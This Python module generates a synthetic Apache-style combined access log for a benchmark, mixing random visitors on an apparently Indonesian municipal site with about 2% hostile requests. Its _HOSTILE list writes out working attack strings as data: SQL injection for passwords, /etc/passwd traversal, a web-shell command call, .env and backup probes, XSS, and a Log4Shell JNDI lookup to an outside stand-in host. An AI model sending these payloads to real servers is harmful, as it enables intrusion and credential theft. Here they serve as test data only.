"""Writes a large combined log in which little repeats: many clients, many paths, some hostile lines."""

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

CLIENTS, PATHS, HOSTILE_SHARE = 300_000, 200_000, 0.02
BATCH = 20_000
_START = datetime(2026, 3, 2, tzinfo=UTC)
_SECONDS = 30 * 86_400
"""A month, however many lines there are."""

_AGENTS = tuple(
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/{version}.0 Safari/537.36".encode()
    for version in range(90, 140)
)
_STEMS = (
    "/berita/%d/pelayanan-terpadu", "/layanan/akta-%d", "/foto/warga-%d.jpg", "/unduh/perda-%d.pdf",
    "/index.php/jurnal/article/view/%d", "/kelurahan/rw-%d", "/assets/js/app.%d.js",
)  # fmt: skip
_HOSTILE = (
    "GET /cari?q=%d%%27+union+select+password+from+users-- HTTP/1.1", "POST /wp-login.php?n=%d HTTP/1.1",
    "GET /../../../../etc/passwd?%d HTTP/1.1", "GET /uploads/x%d.php?cmd=id HTTP/1.1",
    "GET /admin%d/login.php HTTP/1.1", "POST /upload/file%d.php HTTP/1.1", "GET /.env?%d HTTP/1.1",
    "GET /?x=%%3Cscript%%3Ealert(%d)%%3C/script%%3E HTTP/1.1", "GET /backup-%d.sql HTTP/1.1",
    "GET /?a=$%%7Bjndi:ldap://x%d.example/a%%7D HTTP/1.1",
)  # fmt: skip
_ANSWERS = ((404, 196), (404, 153), (403, 199), (400, 226), (302, 0), (500, 530), (200, 5_120))
"""What a site that withstands answers: mostly refusals, sometimes its own page for anything."""


def batches(count: int, seed: int = 2) -> Iterator[bytes]:
    """Yield `count` lines in batches, each line ended by a line feed; the same seed gives the same bytes."""
    chance = random.Random(seed)  # noqa: S311 - a benchmark, not a secret
    clients = [_address(chance) for _ in range(CLIENTS)]
    targets = [(_STEMS[n % len(_STEMS)] % n).encode() for n in range(PATHS)]
    for start in range(0, count, BATCH):
        size = min(BATCH, count - start)
        stamps = _stamps(start, size, count)
        who = chance.choices(clients, k=size)
        what = chance.choices(targets, k=size)
        agents = chance.choices(_AGENTS, k=size)
        codes = chance.choices((b"200", b"304", b"301", b"404", b"500"), (80, 8, 4, 7, 1), k=size)
        lines = [
            b'%s - - [%s +0700] "GET %s HTTP/1.1" %s %d "-" "%s"\n'
            % (client, stamp, target, code, 900 + 7 * (place % 5_000), agent)
            for place, (client, stamp, target, code, agent) in enumerate(
                zip(who, stamps, what, codes, agents, strict=True)
            )
        ]
        for place in chance.sample(range(size), round(size * HOSTILE_SHARE)):
            lines[place] = _hostile(chance, who[place], stamps[place])
        yield b"".join(lines)


def _address(chance: random.Random) -> bytes:
    number = chance.getrandbits(32)
    if number % 10 == 0:
        return b"2001:db8:%x:%x::%x" % (number >> 16, number & 0xFFFF, number % 97)
    return b"%d.%d.%d.%d" % (20 + (number >> 24) % 180, number >> 16 & 255, number >> 8 & 255, number & 255)


def _stamps(start: int, size: int, count: int) -> list[bytes]:
    known: dict[int, bytes] = {}
    found = []
    for place in range(start, start + size):
        second = place * _SECONDS // count
        text = known.get(second)
        if text is None:
            moment = _START + timedelta(seconds=second)
            text = known[second] = moment.strftime("%d/%b/%Y:%H:%M:%S").encode()
        found.append(text)
    return found


def _hostile(chance: random.Random, client: bytes, stamp: bytes) -> bytes:
    request = chance.choice(_HOSTILE) % chance.randrange(100_000)
    status, size = chance.choice(_ANSWERS)
    agent = chance.choice((b"sqlmap/1.7", b"curl/8.5", b"Mozilla/5.0 zgrab/0.x", b"-"))
    return b'%s - - [%s +0700] "%s" %d %d "-" "%s"\n' % (
        client, stamp, request.encode(), status, size, agent,
    )  # fmt: skip


def write(path: Path, count: int) -> int:
    """Write `count` lines; returns bytes written."""
    with path.open("wb") as out:
        return sum(out.write(batch) for batch in batches(count))
